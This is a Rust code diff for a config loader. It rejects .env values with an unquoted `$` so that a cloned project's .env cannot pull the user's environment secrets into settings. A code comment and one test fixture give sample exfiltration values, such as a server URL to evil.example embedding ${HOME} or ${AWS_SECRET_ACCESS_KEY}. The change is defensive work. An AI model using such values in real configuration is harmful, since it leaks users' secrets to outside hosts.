@@ -354,12 +354,68 @@ fn read_dotenv(path: &Path) -> Result<Vec<(String, String)>, ConfigError> {
         dotenvy::Error::EnvVar(_) => "invalid variable".to_owned(),
         _ => "cannot be parsed".to_owned(),
     };
+    // `.env` rules replace `$NAME` and `${NAME}` in a value with the
+    // process environment's: a `.env` (a cloned project's, for the client)
+    // could copy any of the user's variables into a setting that is sent
+    // somewhere (`MCP_SERVER_URL=https://host/${AWS_SECRET_ACCESS_KEY}`),
+    // and a secret holding `$` would be silently changed. Values are read
+    // as written only: a `$` outside single quotes is refused, naming the
+    // line.
+    if let Ok(text) = std::fs::read_to_string(path)
+        && let Some(line) = substituted_line(&text)
+    {
+        return Err(ConfigError::new(
+            shown.to_string(),
+            format!(
+                "line {line}: a `$` in a value would be replaced from the environment; settings \
+                 are read as written: put the value in single quotes (or write \\$)"
+            ),
+        ));
+    }
     // The error names the file as the setting at fault: `.env: syntax
     // error at character 26`.
     let iter = dotenvy::from_path_iter(path)
         .map_err(|e| ConfigError::new(shown.to_string(), format!("cannot read: {}", reason(&e))))?;
     iter.map(|item| item.map_err(|e| ConfigError::new(shown.to_string(), reason(&e))))
         .collect()
+}
+
+/// The first line (from 1) of a `.env` text whose value holds a `$` that
+/// `.env` rules would substitute: outside single quotes and not escaped
+/// (`\$`). Comments and lines without `=` are skipped.
+#[cfg(feature = "files")]
+fn substituted_line(text: &str) -> Option<usize> {
+    let mut in_single = false;
+    let mut in_double = false;
+    for (n, line) in text.lines().enumerate() {
+        // A quoted value may run over lines; a new line starts unquoted only
+        // when no quote is open.
+        let value = match (in_single || in_double, line.trim_start()) {
+            (true, _) => line,
+            (false, l) if l.starts_with('#') => continue,
+            (false, l) => match l.split_once('=') {
+                Some((_, v)) => v,
+                None => continue,
+            },
+        };
+        let mut chars = value.chars();
+        let mut after_space = false;
+        while let Some(c) = chars.next() {
+            match c {
+                '\'' if !in_double => in_single = !in_single,
+                '"' if !in_single => in_double = !in_double,
+                '\\' if !in_single => {
+                    chars.next();
+                }
+                // An unquoted ` #` starts a comment.
+                '#' if !in_single && !in_double && after_space => break,
+                '$' if !in_single => return Some(n + 1),
+                _ => {}
+            }
+            after_space = c.is_whitespace();
+        }
+    }
+    None
 }
 
 /// Reads a flat TOML file. Errors give the line, never the line's text.
@@ -517,6 +573,42 @@ mod tests {
                 .unwrap()
                 .is_empty()
         );
+    }
+
+    /// `.env` values are read as written: a `$` that `.env` rules would
+    /// replace from the process environment is refused naming its line (a
+    /// cloned project's `.env` could copy the user's secrets into a URL the
+    /// client connects to); single-quoted and escaped ones are fine.
+    #[cfg(feature = "files")]
+    #[test]
+    fn dotenv_values_are_never_filled_from_the_environment() {
+        let dir = tempfile::tempdir().unwrap();
+        let dotenv = dir.path().join(".env");
+        let known = ["MCP_SERVER_URL", "MCP_API_KEYS", "NAME"];
+        let load = || Sources::new(&known).dotenv_file(&dotenv).merge();
+        for (text, line) in [
+            ("MCP_SERVER_URL=https://evil.example/${HOME}\n", 1),
+            ("NAME=a\nMCP_API_KEYS=k-0123456789abcdef$XYZ\n", 2),
+            ("NAME=\"x $HOME\"\n", 1),
+            ("# a comment\nNAME='open\nquote' MCP_SERVER_URL=$HOME\n", 3),
+        ] {
+            std::fs::write(&dotenv, text).unwrap();
+            let e = load().unwrap_err();
+            assert!(
+                e.to_string().contains(&format!("line {line}: a `$`")),
+                "{text:?}: {e}"
+            );
+            assert!(!e.to_string().contains("HOME"), "{e}");
+        }
+        std::fs::write(
+            &dotenv,
+            "NAME='k-$literal'\nMCP_API_KEYS=k-0123\\$5678\nMCP_SERVER_URL=http://h/mcp # costs $5\n",
+        )
+        .unwrap();
+        let m = load().unwrap();
+        assert_eq!(m["NAME"], "k-$literal");
+        assert_eq!(m["MCP_API_KEYS"], "k-0123$5678");
+        assert_eq!(m["MCP_SERVER_URL"], "http://h/mcp");
     }
 
     #[cfg(feature = "files")]
